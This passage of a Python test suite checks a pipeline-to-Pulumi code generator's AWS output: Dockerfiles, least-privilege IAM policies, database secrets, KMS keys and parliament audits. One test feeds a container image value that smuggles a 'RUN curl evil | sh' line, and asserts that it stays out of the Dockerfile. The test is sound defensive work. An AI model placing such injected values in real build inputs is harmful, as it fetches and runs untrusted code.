    assert sorted({p.split("/")[1] for p in files}) == ["prod"]
    main_py = files["pulumi/prod/__main__.py"].decode()
    order = [
        'prod = Environment(account="123456789012"',
        "production = prod  # imported under this name",
        'lake = production.s3(bucket="shop-lake")',
        'alerts = aws.sns.Topic("alerts"',
        'DatasetLocation("orders", bucket=lake.bucket, kms_key=lake.kms_key_arn)',
    ]
    positions = [main_py.index(text) for text in order]
    assert positions == sorted(positions)
    assert "import shop" not in main_py and "from shop." not in main_py  # inlined, not imported
    resources = _preview(files, tmp_path / "build", "prod")
    (provider,) = [r for r in resources if r["type"] == "pulumi:providers:aws"]
    assert provider["inputs"]["region"] == "eu-west-1"
    topic = next(r for r in resources if r["type"] == "aws:sns/topic:Topic")
    bucket = next(
        r for r in resources if r["type"] == "aws:s3/bucket:Bucket" and r["name"] == "shop-lake"
    )
    assert topic["provider"] == bucket["provider"] == provider["urn"]


def test_a_user_image_is_used_as_is_and_never_pasted_into_the_dockerfile(
    tmp_path: Path,
) -> None:
    from codegen.aws._bundle import BASE_IMAGE

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    module = tmp_path / "boxed.py"
    image = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/etl:1.2"
    module.write_text(
        "from glacier import Container, Dataset, Pipeline\n\n"
        'pipeline = Pipeline(name="boxed")\n'
        'out = Dataset(name="out")\n'
        'more = Dataset(name="more")\n\n\n'
        '@pipeline.task(compute=Container(image="python:3.12-slim\\nRUN curl evil | sh"))\n'
        "def work() -> out:\n"
        "    return 1\n\n\n"
        f"@pipeline.task(compute=Container(image={image!r}))\n"
        "def again(x: out) -> more:\n"
        "    return x\n"
    )
    analysis = analyze([str(module)])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    dockerfile = files["pulumi/default/bundle/Dockerfile"].decode()
    instructions = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    assert instructions == [
        f"ARG BASE={BASE_IMAGE}",
        "FROM ${BASE}",
        "WORKDIR /var/task",
        "COPY . /var/task",
        "RUN python -m pip install --no-cache-dir boto3 -r requirements.txt",
        "ENV PYTHONPATH=/var/task",
        "RUN chmod 1777 /tmp",
        'VOLUME ["/tmp"]',
        "USER 1000:1000",  # the task definition's non-root user (ECS.20)
    ]
    assert "evil" not in dockerfile
    main_py = files["pulumi/default/__main__.py"].decode()
    assert "ContainerImage" not in main_py  # every task names its image: nothing to build
    resources = _preview(files, tmp_path / "build", "default")
    assert not [r for r in resources if r["type"].startswith("docker-build:")]
    definitions = {
        r["name"]: json.loads(r["inputs"]["containerDefinitions"])[0]
        for r in resources
        if r["type"] == "aws:ecs/taskDefinition:TaskDefinition"
    }
    assert definitions["boxed-work-task"]["image"] == "python:3.12-slim\nRUN curl evil | sh"
    assert definitions["boxed-again-task"]["image"] == image
    policies = {
        r["name"]: json.loads(r["inputs"]["policy"])["Statement"]
        for r in resources
        if r["type"] == "aws:iam/rolePolicy:RolePolicy" and "execution" in r["name"]
    }
    # a public image needs no ECR permission; a private ECR one, its repository's only
    assert [s["Sid"] for s in policies["boxed-work-execution-policy"]] == ["OwnLogGroup"]
    pull = {s["Sid"]: s for s in policies["boxed-again-execution-policy"]}
    assert pull["PullImage"]["Resource"] == [
        "arn:aws:ecr:eu-west-1:111122223333:repository/team/etl"
    ]


def test_helper_functions_of_infrastructure_are_carried_and_formatted(tmp_path: Path) -> None:
    import shutil

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    module = tmp_path / "helped.py"
    module.write_text(
        "import pulumi_aws as aws\n\n"
        "from glacier import Dataset, Pipeline\n\n"
        'pipeline = Pipeline(name="helped")\n'
        'bucket = aws.s3.Bucket("helped", bucket="helped-data")\n\n\n'
        "def private(name: str, target: aws.s3.Bucket) -> None:\n"
        "    aws.s3.BucketPublicAccessBlock(\n"
        "        name, bucket=target.id, block_public_acls=True, block_public_policy=True\n"
        "    )\n\n\n"
        'private("helped-pab", bucket)\n'
        'data = Dataset(name="data", storage=bucket)\n\n\n'
        "@pipeline.task()\n"
        "def make() -> data:\n"
        "    return 1\n"
    )
    analysis = analyze([str(module)])
    (model,) = analysis.pipelines
    main_py = emit_programs(analysis, model)["pulumi/default/__main__.py"].decode()
    assert "def private(name: str, target: aws.s3.Bucket) -> None:" in main_py
    assert main_py.index("bucket = aws.s3.Bucket(") < main_py.index("def private(")
    assert main_py.index("def private(") < main_py.index('private("helped-pab", bucket)')
    assert "def make()" not in main_py
    ruff = shutil.which("ruff") or str(Path(sys.executable).parent / "ruff")
    target = tmp_path / "main_check.py"
    target.write_text(main_py)
    result = subprocess.run(
        [ruff, "format", "--isolated", "--line-length", "100", "--check", str(target)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


DATABASE_URL_CONFIG = "postgresql://glacier@db.internal:5432/orders"  # see `_config_for`


def test_database_tasks_read_a_secret_in_the_vpc_and_no_url_is_in_plain_text(
    programs: dict[tuple[str, str], Program],
) -> None:
    checked = 0
    for program in _each(programs):
        main_py = (program.directory / "__main__.py").read_text()
        assert DATABASE_URL_CONFIG not in main_py
        assert 'GLACIER_DATABASE_URL"' not in main_py  # the old plaintext variable is gone
        for version in program.of_type("aws:secretsmanager/secretVersion:SecretVersion"):
            assert version["inputs"]["secretString"] == DATABASE_URL_CONFIG
        for resource in program.resources:
            if resource["type"] != "aws:secretsmanager/secretVersion:SecretVersion":
                assert DATABASE_URL_CONFIG not in json.dumps(resource["inputs"]), resource["name"]
        if not program.deploys:
            continue
        model = program.model
        secrets = program.of_type("aws:secretsmanager/secret:Secret")
        for task in model.tasks:
            prefix = component_name(model.name, task.name)
            tables = [d for d in (model.dataset(n) for n in _touched(task)) if _is_table(d)]
            statements = json.loads(
                program.named("aws:iam/rolePolicy:RolePolicy", f"{prefix}-policy")["inputs"][
                    "policy"
                ]
            )["Statement"]
            reads = [s["Resource"] for s in statements if s.get("Sid") == "ReadDatabaseUrlSecret"]
            container = task.compute is not None and task.compute.kind == "container"
            if container:
                (definition,) = json.loads(
                    program.named("aws:ecs/taskDefinition:TaskDefinition", f"{prefix}-task")[
                        "inputs"
                    ]["containerDefinitions"]
                )
                variables = {e["name"]: e["value"] for e in definition["environment"]}
            else:
                function = program.named("aws:lambda/function:Function", f"{prefix}-function")
                variables = function["inputs"]["environment"]["variables"]
                assert ("vpcConfig" in function["inputs"]) == bool(tables), task.name
            if tables:
                (secret,) = secrets
                assert variables["GLACIER_DATABASE_URL_SECRET_ARN"] == secret["outputs"]["arn"]
                assert reads == [[secret["outputs"]["arn"]]]
                checked += 1
            else:
                assert not [k for k in variables if k.startswith("GLACIER_DATABASE")]
                assert reads == []
    assert checked >= 1  # the orders example archives its rejections in a table


def _touched(task: Any) -> list[str]:
    return [*(i.dataset for i in task.inputs), *task.outputs]


RDS_PROJECT = """
from glacier import Container, Database, Dataset, Pipeline
from glacier_aws import Environment

pipeline = Pipeline(name="shop")
prod = Environment(account="123456789012", region="eu-west-1", name="prod")
warehouse = prod.rds("warehouse")
orders = Dataset(name="orders", storage=warehouse)
audit = Dataset(name="audit", storage=Database(table="audit", url="postgresql://me:pw@audit/db"))
totals = Dataset(name="totals", storage=prod.s3("shop-totals"))


@pipeline.task()
def load() -> orders:
    return [{"amount": 1.5}]


@pipeline.task(compute=Container(image="registry.example/shop:1"))
def total(rows: orders) -> audit:
    return [{"n": len(rows)}]


@pipeline.task()
def report(rows: audit) -> totals:
    return {"n": float(rows[0]["n"])}
"""


def test_rds_tables_are_reached_through_the_instance_secret(tmp_path: Path) -> None:
    """`Environment.rds`: managed secret, host/port/name, ingress from the tasks only."""
    from _pulumi_mocks import VPC

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (tmp_path / "shop.py").write_text(RDS_PROJECT)
    analysis = analyze([str(tmp_path / "shop.py")])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    main_py = files["pulumi/prod/__main__.py"].decode()
    assert "postgresql://me:pw@audit/db" not in main_py  # the user's literal URL stays theirs
    assert "glacier:databaseUrl" not in main_py  # no URL secret is needed here
    resources = _preview(files, tmp_path / "build", "prod")

    def one(token: str, name: str) -> dict[str, Any]:
        (found,) = [r for r in resources if r["type"] == token and r["name"] == name]
        return found

    instance = one("aws:rds/instance:Instance", "warehouse")["outputs"]
    secret_arn = instance["masterUserSecrets"][0]["secretArn"]
    tasks_group = one("aws:ec2/securityGroup:SecurityGroup", "shop-network-tasks")
    db_group = one("aws:ec2/securityGroup:SecurityGroup", "warehouse-db")
    assert tasks_group["inputs"]["vpcId"] == db_group["inputs"]["vpcId"] == VPC
    (ingress,) = [
        r
        for r in resources
        if r["type"] == "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
    ]
    assert ingress["inputs"]["securityGroupId"] == db_group["outputs"]["id"]
    assert ingress["inputs"]["referencedSecurityGroupId"] == tasks_group["outputs"]["id"]
    assert (ingress["inputs"]["fromPort"], ingress["inputs"]["toPort"]) == (5433, 5433)
    assert not [r for r in resources if r["type"].startswith("aws:secretsmanager/")]
    rds_variables = {
        "GLACIER_DATABASE_SECRET_ARN": secret_arn,
        "GLACIER_DATABASE_HOST": instance["address"],
        "GLACIER_DATABASE_PORT": "5433",
        "GLACIER_DATABASE_NAME": "warehouse",
    }
    subnets = ["subnet-placeholder-a", "subnet-placeholder-b"]  # `glacier plan`'s placeholders
    vpc = {"subnetIds": subnets, "securityGroupIds": [tasks_group["outputs"]["id"]]}
    functions = {
        r["name"]: r["inputs"] for r in resources if r["type"] == "aws:lambda/function:Function"
    }
    load = functions["shop-load-function"]
    assert load["vpcConfig"] == vpc
    assert load["environment"]["variables"].items() >= rds_variables.items()
    # `Database(url=...)`: in the VPC, but its URL is the user's own and no variable carries it.
    report = functions["shop-report-function"]
    assert report["vpcConfig"] == vpc
    assert not [k for k in report["environment"]["variables"] if k.startswith("GLACIER_DATABASE")]
    for resource in resources:
        assert "me:pw@audit" not in json.dumps(resource["inputs"]), resource["name"]

    def sids(task: str) -> dict[str, Any]:
        policy = one("aws:iam/rolePolicy:RolePolicy", f"shop-{task}-policy")
        return {s["Sid"]: s for s in json.loads(policy["inputs"]["policy"])["Statement"]}

    assert sids("load")["ReadRdsSecret"]["Resource"] == [secret_arn]
    assert "ReadRdsSecret" not in sids("report") and "VpcNetworkInterfaces" in sids("report")
    assert sids("total")["ReadRdsSecret"]["Resource"] == [secret_arn]
    (definition,) = json.loads(
        one("aws:ecs/taskDefinition:TaskDefinition", "shop-total-task")["inputs"][
            "containerDefinitions"
        ]
    )
    assert {e["name"]: e["value"] for e in definition["environment"]}.items() >= (
        rds_variables.items()
    )
    machine = json.loads(
        one("aws:sfn/stateMachine:StateMachine", "shop-state-machine")["inputs"]["definition"]
    )
    network = machine["States"]["total"]["Parameters"]["NetworkConfiguration"]
    assert network["AwsvpcConfiguration"]["SecurityGroups"] == [tasks_group["outputs"]["id"]]
    # the instance's own roles and policies (Enhanced Monitoring) pass parliament too
    program = Program("shop.py", "prod", model, tmp_path, files, resources, {}, [], {}, [])
    audited: set[str] = set()
    assert _audit(program, _accepted_findings(), set(), audited) == []
    assert {f"{ROLE} warehouse-monitoring-role", f"{ROLE_POLICY} warehouse-monitoring-policy"} <= (
        audited
    )


def test_inline_rds_storage_reads_the_url_secret(tmp_path: Path) -> None:
    """`storage=env.rds(...)` written inline binds no variable: the program cannot name the
    instance (nor does it create it), so its tasks read `glacier:databaseUrl` instead."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (tmp_path / "inline.py").write_text(
        "from glacier import Dataset, Pipeline\n"
        "from glacier_aws import Environment\n\n"
        'pipeline = Pipeline(name="inline")\n'
        'prod = Environment(account="123456789012", region="eu-west-1", name="prod")\n'
        'rows = Dataset(name="rows", storage=prod.rds("other"))\n\n\n'
        "@pipeline.task()\n"
        "def load() -> rows:\n"
        "    return [1]\n"
    )
    analysis = analyze([str(tmp_path / "inline.py")])
    (model,) = analysis.pipelines
    main_py = emit_programs(analysis, model)["pulumi/prod/__main__.py"].decode()
    assert "RdsAccess" not in main_py
    assert 'url=glacier_config.require_secret("databaseUrl")' in main_py
    task = main_py[main_py.index("glacier_task_load = ") :]
    assert (
        "databases=[\n        glacier_database_url,\n    ],\n    network=glacier_network," in task
    )


def test_plan_fills_the_subnets_an_rds_instance_reads(tmp_path: Path) -> None:
    """An environment whose program only holds an `Environment.rds` instance still reads
    `glacier:subnets` (inside `.rds(...)`): the preview fills it with placeholders."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (tmp_path / "shop.py").write_text(
        RDS_PROJECT
        + '\ndev = Environment(account="789012345678", region="us-west-2", name="dev")\n'
        + 'dev_db = dev.rds("devdb")\n'
    )
    analysis = analyze([str(tmp_path / "shop.py")])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    main_py = files["pulumi/dev/__main__.py"].decode()
    assert '"subnets"' not in main_py and 'dev_db = dev.rds("devdb")' in main_py
    resources = _preview(files, tmp_path / "build", "dev")
    (group,) = [r for r in resources if r["type"] == "aws:rds/subnetGroup:SubnetGroup"]
    assert group["inputs"]["subnetIds"] == ["subnet-placeholder-a", "subnet-placeholder-b"]


BUCKET = "aws:s3/bucket:Bucket"


def test_data_buckets_are_kept_and_existing_buckets_are_looked_up(
    programs: dict[tuple[str, str], Program],
) -> None:
    """Glacier's data buckets survive `pulumi destroy`; buckets another system owns
    (`existing=True`) are not resources of the program at all, only lookups."""
    looked_up = 0
    for program in _each(programs):
        if not program.deploys:
            continue
        buckets = {b["inputs"].get("bucket"): b for b in program.of_type(BUCKET)}
        lookups = [args for token, args in program.calls if token == "aws:s3/getBucket:getBucket"]
        existing = set()
        for dataset in program.model.datasets:
            storage = dataset.storage
            if storage is None or storage.kind not in ("object", "s3"):
                continue
            if storage.existing:
                assert storage.bucket not in buckets, storage.bucket
                existing.add(storage.bucket)
                continue
            bucket = buckets[storage.bucket]
            assert (bucket["protect"], bucket["retain_on_delete"]) == (True, True), bucket["name"]
        assert sorted(args["bucket"] for args in lookups) == sorted(existing)
        looked_up += len(lookups)
        # the scratch bucket holds only ephemeral data: it goes with the stack
        scratch = program.named(BUCKET, component_name(program.model.name, "scratch"))
        assert (scratch["protect"], scratch["retain_on_delete"]) == (False, False)
    assert looked_up == 1  # the orders example's landing bucket, written by the shop


def test_the_existing_landing_bucket_is_still_read_exactly(
    programs: dict[tuple[str, str], Program],
) -> None:
    program = programs[("orders", DEFAULT_ENV)]
    prefix = component_name("orders", "validate")
    policy = program.named("aws:iam/rolePolicy:RolePolicy", f"{prefix}-policy")
    statements = json.loads(policy["inputs"]["policy"])["Statement"]
    reads = [s for s in statements if s["Sid"].startswith(("ReadInputs", "ListInputs"))]
    assert reads == [
        {
            "Sid": "ReadInputs0",
            "Effect": "Allow",
            "Action": ["s3:GetObject"],
            "Resource": [*_object_keys("arn:aws:s3:::orders-landing/incoming/raw_orders")],
        },
        {
            "Sid": "ListInputs0",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": ["arn:aws:s3:::orders-landing"],
            "Condition": {"StringLike": {"s3:prefix": ["incoming/raw_orders."]}},
        },
    ]
    assert program.exports["buckets"]["raw_orders"] == "orders-landing"


# -- a bucket encrypted with a customer managed KMS key ---------------------------------------

KMS_FIXTURE = ROOT / "tests" / "fixtures" / "deploy" / "kms_bucket.py"
SSE = "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"


@pytest.fixture(scope="module")
def kms_program(tmp_path_factory: pytest.TempPathFactory) -> Program:
    out = tmp_path_factory.mktemp("kms")
    analysis = analyze([str(KMS_FIXTURE)])
    assert [d for d in analysis.diagnostics if d.severity == "error"] == []
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    write_files(files, out)
    assert sorted({p.split("/")[1] for p in files}) == ["prod"]
    directory = out / "pulumi" / "prod"
    project = yaml.safe_load((directory / "Pulumi.yaml").read_text())["name"]
    data = _run(directory, project, "prod", out)
    return Program(
        "kms_bucket.py",
        "prod",
        model,
        directory,
        files,
        data["resources"],
        data["exports"],
        data["vendored"],
        data["stack_config"],
        [(token, args) for token, args in data["calls"]],
    )


def test_the_kms_bucket_encrypts_with_the_key(kms_program: Program) -> None:
    key = kms_program.named("aws:kms/key:Key", "kms-data-key")
    assert key["outputs"]["arn"] == "arn:aws:kms:eu-west-1:123456789012:key/kms-data-key"
    encryption = kms_program.named(SSE, "kms-vault-encryption")
    assert encryption["inputs"]["rules"] == [
        {
            "applyServerSideEncryptionByDefault": {
                "sseAlgorithm": "aws:kms",
                "kmsMasterKeyId": key["outputs"]["arn"],
            }
        }
    ]
    vault = kms_program.named(BUCKET, "kms-vault")
    assert (vault["protect"], vault["retain_on_delete"]) == (True, True)


def _statements(program: Program, task: str) -> list[dict[str, Any]]:
    policy = program.named("aws:iam/rolePolicy:RolePolicy", f"kms-{task}-policy")
    statements: list[dict[str, Any]] = json.loads(policy["inputs"]["policy"])["Statement"]
    return statements


def test_kms_tasks_may_use_exactly_the_key_and_only_through_s3(kms_program: Program) -> None:
    key = "arn:aws:kms:eu-west-1:123456789012:key/kms-data-key"
    through_s3 = {"StringEquals": {"kms:ViaService": "s3.eu-west-1.amazonaws.com"}}
    # the scratch bucket is named by AWS from its prefix (26 characters appended)
    scratch = kms_program.named("aws:s3/bucket:Bucket", "kms-scratch")["outputs"]["arn"]
    vault = "arn:aws:s3:::kms-vault"
    assert scratch.startswith("arn:aws:s3:::kms-scratch-")
    logs = "arn:aws:logs:eu-west-1:123456789012:log-group:/glacier/prod/kms-{}-logs:*"
    xray = {
        "Sid": "XRayTracing",
        "Effect": "Allow",
        "Action": ["xray:PutTraceSegments", "xray:PutTelemetryRecords"],
        "Resource": "*",
    }

    def own_logs(task: str) -> dict[str, Any]:
        return {
            "Sid": "OwnLogGroup",
            "Effect": "Allow",
            "Action": ["logs:CreateLogStream", "logs:PutLogEvents"],
            "Resource": [logs.format(task)],
        }

    # reads the bucket, writes the scratch bucket: only decrypts
    assert _statements(kms_program, "normalise") == [
        {
            "Sid": "ReadInputs0",
            "Effect": "Allow",
            "Action": ["s3:GetObject"],
            "Resource": [*_object_keys(f"{vault}/readings")],
        },
        {
            "Sid": "ListInputs0",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": [vault],
            "Condition": {"StringLike": {"s3:prefix": ["readings."]}},
        },
        {
            "Sid": "WriteOutputs0",
            "Effect": "Allow",
            "Action": ["s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"],
            "Resource": [*_object_keys(f"{scratch}/*/normalised")],
        },
        {
            "Sid": "ListOutputs0",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": [scratch],
            "Condition": {"StringLike": {"s3:prefix": ["*/normalised."]}},
        },
        {
            "Sid": "DecryptInputs",
            "Effect": "Allow",
            "Action": ["kms:Decrypt"],
            "Resource": [key],
            "Condition": through_s3,
        },
        own_logs("normalise"),
        xray,
    ]
    # reads and writes the bucket: decrypts, and generates data keys for its uploads
    assert _statements(kms_program, "summarise") == [
        {
            "Sid": "ReadInputs0",
            "Effect": "Allow",
            "Action": ["s3:GetObject"],
            "Resource": [*_object_keys(f"{vault}/readings")],
        },
        {
            "Sid": "ListInputs0",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": [vault],
            "Condition": {"StringLike": {"s3:prefix": ["readings."]}},
        },
        {
            "Sid": "ReadInputs1",
            "Effect": "Allow",
            "Action": ["s3:GetObject"],
            "Resource": [*_object_keys(f"{scratch}/*/normalised")],
        },
        {
            "Sid": "ListInputs1",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": [scratch],
            "Condition": {"StringLike": {"s3:prefix": ["*/normalised."]}},
        },
        {
            "Sid": "WriteOutputs0",
            "Effect": "Allow",
            "Action": ["s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload"],
            "Resource": [*_object_keys(f"{vault}/summary")],
        },
        {
            "Sid": "ListOutputs0",
            "Effect": "Allow",
            "Action": ["s3:ListBucket"],
            "Resource": [vault],
            "Condition": {"StringLike": {"s3:prefix": ["summary."]}},
        },
        {
            "Sid": "DecryptInputs",
            "Effect": "Allow",
            "Action": ["kms:Decrypt"],
            "Resource": [key],
            "Condition": through_s3,
        },
        {
            "Sid": "EncryptOutputs",
            "Effect": "Allow",
            "Action": ["kms:GenerateDataKey", "kms:Decrypt"],
            "Resource": [key],
            "Condition": through_s3,
        },
        own_logs("summarise"),
        xray,
    ]


def test_no_other_role_may_use_the_key(kms_program: Program) -> None:
    for policy in kms_program.of_type("aws:iam/rolePolicy:RolePolicy"):
        actions = {
            action
            for statement in json.loads(policy["inputs"]["policy"])["Statement"]
            for action in (
                [statement["Action"]]
                if isinstance(statement["Action"], str)
                else statement["Action"]
            )
        }
        uses_kms = any(action.startswith("kms:") for action in actions)
        assert uses_kms == (policy["name"] in ("kms-normalise-policy", "kms-summarise-policy"))


# -- exact least privilege --------------------------------------------------------------------


def _as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def _iam_match(pattern: str, value: str) -> bool:
    """IAM's wildcards in actions and ARNs: ``*`` any run of characters (``/`` too), ``?`` one."""
    regex = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
    return re.fullmatch(regex, value, re.DOTALL) is not None


def _allows(document: dict[str, Any], action: str, arn: str) -> bool:
    """Whether any ``Allow`` statement names ``action`` on ``arn``. Conditions are ignored, so
    this says *more* than IAM would allow: enough to prove a grant absent."""
    return any(
        statement["Effect"] == "Allow"
        and any(_iam_match(a.lower(), action.lower()) for a in _as_list(statement["Action"]))
        and any(_iam_match(r, arn) for r in _as_list(statement.get("Resource", [])))
        for statement in document["Statement"]
    )


def _object_arns(program: Program, dataset: DatasetModel) -> list[str]:
    """Every object a dataset can be stored as (ephemeral: in one execution's folder)."""
    keys = _keys(dataset)[:-1]
    if dataset.storage is None:
        keys = keys.replace("*", "exec-0001", 1)
    bucket = _bucket_name(program, dataset)
    return [f"arn:aws:s3:::{bucket}/{keys}{ext}" for ext in OBJECT_EXTENSIONS]


def _key_grants_beyond_own_datasets(program: Program) -> list[str]:
    """What a task role may do to the objects of datasets that are not its own, or may not
    do to its own: each task's policy held against every key of every dataset."""
    model = program.model
    objects = {d.name: _object_arns(program, d) for d in model.datasets if not _is_table(d)}
    problems: list[str] = []
    for task in model.tasks:
        prefix = component_name(model.name, task.name)
        policy = program.named("aws:iam/rolePolicy:RolePolicy", f"{prefix}-policy")
        document = json.loads(policy["inputs"]["policy"])
        reads = {i.dataset for i in task.inputs}
        for name, arns in objects.items():
            for action in (*BUCKET_ACCESS.read, *BUCKET_ACCESS.write):
                own = name in (reads if action in BUCKET_ACCESS.read else task.outputs)
                for arn in arns:
                    if _allows(document, action, arn) != own:
                        verb = "may not" if own else "may"
                        problems.append(f"{task.name} {verb} {action} {arn}")
    return problems


def test_no_task_may_touch_another_datasets_objects(
    programs: dict[tuple[str, str], Program],
) -> None:
    checked = 0
    for program in _each(programs):
        if program.deploys:
            assert _key_grants_beyond_own_datasets(program) == [], program.example
            checked += 1
    assert checked == len(EXPECTED_PROGRAMS) - 1


def test_a_dataset_named_like_another_plus_a_suffix_stays_out_of_reach(tmp_path: Path) -> None:
    """`sales` and `sales.eu` in one bucket and prefix (and `tmp`, `tmp.x` in the scratch
    bucket): `<prefix>/sales.*` would let the producer of `sales` overwrite `sales.eu`."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    module = tmp_path / "dotted.py"
    module.write_text(
        "from glacier import Dataset, ObjectStorage, Pipeline\n\n"
        'pipeline = Pipeline(name="dotted")\n'
        'store = ObjectStorage(bucket="shared-bucket", prefix="data")\n'
        'sales = Dataset(name="sales", storage=store)\n'
        'sales_eu = Dataset(name="sales.eu", storage=store)\n'
        'tmp = Dataset(name="tmp")\n'
        'tmp_x = Dataset(name="tmp.x")\n\n\n'
        "@pipeline.task()\n"
        "def make() -> tuple[tmp, tmp_x]:\n"
        "    return 1, 2\n\n\n"
        "@pipeline.task()\n"
        "def total(a: tmp) -> sales:\n"
        "    return a\n\n\n"
        "@pipeline.task()\n"
        "def europe(b: tmp_x) -> sales_eu:\n"
        "    return b\n"
    )
    analysis = analyze([str(module)])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    write_files(files, tmp_path / "build")
    directory = tmp_path / "build" / "pulumi" / DEFAULT_ENV
    project = yaml.safe_load((directory / "Pulumi.yaml").read_text())["name"]
    data = _run(directory, project, DEFAULT_ENV, tmp_path)
    program = Program(
        "dotted.py", DEFAULT_ENV, model, directory, files, data["resources"], {}, [], {}, []
    )
    assert _key_grants_beyond_own_datasets(program) == []
    # ... which the former grant `<prefix>/<dataset>.*` fails
    eu = "arn:aws:s3:::shared-bucket/data/sales.eu.json"
    total = program.named("aws:iam/rolePolicy:RolePolicy", "dotted-total-policy")
    assert not _allows(json.loads(total["inputs"]["policy"]), "s3:PutObject", eu)
    former = {
        "Effect": "Allow",
        "Action": ["s3:PutObject"],
        "Resource": [eu[: -len("eu.json")] + "*"],
    }
    assert _allows({"Statement": [former]}, "s3:PutObject", eu)


# -- parliament -------------------------------------------------------------------------------

_ACCEPTED_HEADING = "### Findings of parliament we accept"


ROLE = "aws:iam/role:Role"
ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"


def _accepted_findings() -> dict[tuple[str, str], str]:
    """``docs/deploy-aws.md``'s table of accepted findings: (issue, statement) -> reason."""
    text = (ROOT / "docs" / "deploy-aws.md").read_text(encoding="utf-8")
    section = text.split(_ACCEPTED_HEADING, 1)[1].split("\n#", 1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `")]
    accepted: dict[tuple[str, str], str] = {}
    for row in rows:
        issue, statement, reason = (cell.strip() for cell in row.strip("|").split("|"))
        accepted[(issue.strip("`"), statement.strip("`"))] = reason
    return accepted


def _policy_documents(program: Program) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """Every IAM policy document of a program, as ``(where, statements)``: role policies,
    trust policies (given the role as their resource, which parliament requires and IAM
    implies), bucket and other resource policies."""
    for resource in program.resources:
        for key in ("policy", "assumeRolePolicy"):
            text = resource["inputs"].get(key)
            if not isinstance(text, str) or not text.lstrip().startswith("{"):
                continue
            document = json.loads(text)
            if "Statement" not in document:  # an ECR lifecycle policy, not IAM
                continue
            statements = _as_list(document["Statement"])
            if key == "assumeRolePolicy":
                role = resource["outputs"]["arn"]
                statements = [{"Sid": "Trust", **s, "Resource": role} for s in statements]
            yield (
                f"{program.example}/{program.env}: {resource['type']} {resource['name']}",
                statements,
            )


def _parliament_findings(statements: list[dict[str, Any]]) -> list[tuple[str, str, str, str]]:
    """parliament's findings on one document as ``(severity, issue, statement Sid, detail)``:
    one statement per line, so a finding's line names its statement."""
    import parliament
    from parliament import analyze_policy_string, enhance_finding

    # as `parliament --include-community-auditors` does: their findings' severities
    community = Path(parliament.__file__).parent / "community_auditors"
    parliament.override_config(str(community / "config_override.yaml"))
    text = '{"Version": "2012-10-17", "Statement": [\n'
    text += ",\n".join(json.dumps(s) for s in statements) + "\n]}"
    policy = analyze_policy_string(text, include_community_auditors=True)
    found = []
    for finding in map(enhance_finding, policy.findings):
        location = finding.location if isinstance(finding.location, dict) else {}
        line = location.get("line")
        if isinstance(line, int) and 2 <= line < 2 + len(statements):
            culprits = [statements[line - 2]]
        elif len(statements) > 1:  # a finding on the whole document: whose statements raise it
            culprits = [
                s for s in statements if finding.issue in {f[1] for f in _parliament_findings([s])}
            ]
        else:
            culprits = statements
        for statement in culprits or [{"Sid": "(document)"}]:
            found.append(
                (finding.severity, finding.issue, statement.get("Sid", "?"), str(finding.detail))
            )
    return found


def _community_issues() -> set[str]:
    import parliament

    community = Path(parliament.__file__).parent / "community_auditors"
    return set(yaml.safe_load((community / "config_override.yaml").read_text()))


def test_every_policy_document_passes_parliament(programs: dict[tuple[str, str], Program]) -> None:
    """Every policy document of every example's programs, audited by parliament with its
    community auditors: no finding of its own auditors above LOW; a LOW one, or one of the
    stricter community auditors, only where docs/deploy-aws.md lists it with a reason."""
    accepted = _accepted_findings()
    assert all(reason for reason in accepted.values())
    used: set[tuple[str, str]] = set()
    problems: list[str] = []
    audited: set[str] = set()
    for program in _each(programs):
        problems += _audit(program, accepted, used, audited)
    assert problems == [], "\n".join(problems)
    assert {where.split()[0] for where in audited} >= {
        ROLE,
        ROLE_POLICY,
        "aws:s3/bucketPolicy:BucketPolicy",
    }
    assert used == set(accepted), "docs/deploy-aws.md accepts findings that no longer occur"


def _audit(
    program: Program,
    accepted: dict[tuple[str, str], str],
    used: set[tuple[str, str]],
    audited: set[str],
) -> list[str]:
    """parliament's findings on ``program`` that ``accepted`` does not list (as text); the
    accepted ones met are added to ``used``, the audited resources' names to ``audited``."""
    community = _community_issues()
    problems = []
    for where, statements in _policy_documents(program):
        audited.add(where.split(": ", 1)[1])
        for severity, issue, sid, detail in _parliament_findings(statements):
            acceptable = severity == "LOW" or issue in community
            if acceptable and (issue, sid) in accepted:
                used.add((issue, sid))
                continue
            problems.append(f"{where}: {severity} {issue} in {sid}: {detail}")
    return problems


# -- IAM's policy size quota ------------------------------------------------------------------

ROLE_POLICY_LIMIT = 10_240


def _policy_chars(text: str) -> int:
    return len(re.sub(r"\s", "", text))


def _chain_module(tasks: int, containers: int = 0) -> str:
    """A chain of ``tasks`` tasks, the first ``containers`` of them on Fargate."""
    lines = [
        "from glacier import Container, Dataset, ObjectStorage, Pipeline",
        "",
